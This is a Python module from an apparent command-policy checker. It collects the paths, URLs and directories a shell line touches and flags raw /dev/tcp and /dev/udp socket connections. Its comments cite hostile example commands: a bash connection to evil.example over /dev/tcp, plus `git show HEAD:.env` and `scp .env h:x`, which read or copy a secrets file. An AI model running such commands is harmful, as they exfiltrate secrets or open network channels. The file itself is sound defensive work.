"""What a line's words say beyond its commands: the paths, URLs and directories the walker
collects (SPEC §18 "Paths", "Domains")."""

from __future__ import annotations

from app.policy.rules.options import url_operands
from app.policy.rules.variables import Bindings
from app.policy.rules.words import UNKNOWN, Word, with_unknowns
from app.policy.rules.wrappers import OUTPUT_OPTIONS, URL_COMMANDS

_SOCKETS = ("/dev/tcp/", "/dev/udp/")


class Collector:
    """The walker's word-level part: every word of a simple command but its name is a path
    candidate (and what follows a leading `@` or the first `=`); http(s) words, and the
    operands of URL commands, are URLs; `cd`'s operand is a directory the line moves to."""

    def __init__(self) -> None:
        self.paths: dict[tuple[str, bool], None] = {}
        self.urls: dict[str, None] = {}
        self.cwds: dict[tuple[str, bool], None] = {}
        self.scopes: list[Bindings] = []
        self.writes = False  # output goes to a file (a redirection, `git diff --output=x`)

    def words_of(self, key: str, args: list[Word]) -> None:
        """The path, URL and directory candidates of a simple command named `key`."""
        for w in args:
            self.candidates(w)
        if key in ("cd", "pushd"):
            self.directory(args)
        outputs = OUTPUT_OPTIONS.get(key)
        if outputs and any(_names_output(w.text, outputs) for w in args):
            self.writes = True
        if key in URL_COMMANDS:
            for url in url_operands(key, args):
                self.url(url)

    def candidates(self, w: Word) -> None:
        # $HOME is resolved with the call's home (pathmatch.resolve); a variable the line
        # sets itself when the line has been read (line()); nothing else is known.
        known = w.literal or (not (w.substituted or w.glob or w.brace)
                              and set(w.variables) == {"HOME"})
        if not known and not (w.substituted or w.brace) and self.scopes:
            self.scopes[-1].deferred.append((w, w.start))
            return
        self.add(w.text if known else with_unknowns(w), dynamic=not known)

    def directory(self, args: list[Word]) -> None:
        operands = [w for w in args if not w.text.startswith(("-", "+")) or w.text == "-"]
        if not operands:
            self.cwds[("~", False)] = None
        elif operands[0].text == "-" or not operands[0].literal:
            self.cwds[(with_unknowns(operands[0]) if operands[0].text != "-" else UNKNOWN,
                       True)] = None
        else:
            self.cwds[(operands[0].text, False)] = None

    def url(self, w: Word) -> None:
        """An operand of a URL command: a URL of any scheme (`ftp://`, `scp://` reach a
        host too), `http://` when it has none."""
        text = w.text if w.literal else with_unknowns(w)
        if "://" not in text[:24]:
            text = "http://" + text
        self.urls[text] = None

    def add(self, text: str, *, dynamic: bool) -> None:
        """A word's path and URL candidates."""
        parts = [] if text.startswith("-") else [text]
        if "=" in text:
            parts.append(text.split("=", 1)[1])
        for part in list(parts):
            if part.startswith("@"):
                parts.append(part[1:])
            if part[:8].lower().startswith(("http://", "https://")):
                self.urls[part] = None
        if ":" in text and "://" not in text:  # `git show HEAD:.env`, `scp .env h:x`
            parts.append(text.split(":", 1)[1])
        if text.startswith("-") and "@" in text:
            parts.append(text.split("@", 1)[1])
        for part in parts:
            if part.startswith(_SOCKETS):  # bash connects: `cat < /dev/tcp/evil.example/80`
                self.urls["tcp://" + part[9:].replace("/", ":", 1)] = None
                self.hide("a /dev/tcp or /dev/udp connection")
            if part:
                self.paths[(part, dynamic)] = None

    def hide(self, why: str) -> None:
        raise NotImplementedError  # the walker's: no classify rule may apply


def _names_output(text: str, outputs: frozenset[str]) -> bool:
    """Whether an option word is one of `outputs` (`--output=x`, `-o`, `-ro`, `-ox`: a
    letter anywhere in a cluster counts, which can only make a line count as writing)."""
    if text.startswith("--"):
        return text.split("=", 1)[0] in outputs
    return text.startswith("-") and any(f"-{c}" in outputs for c in text[1:])
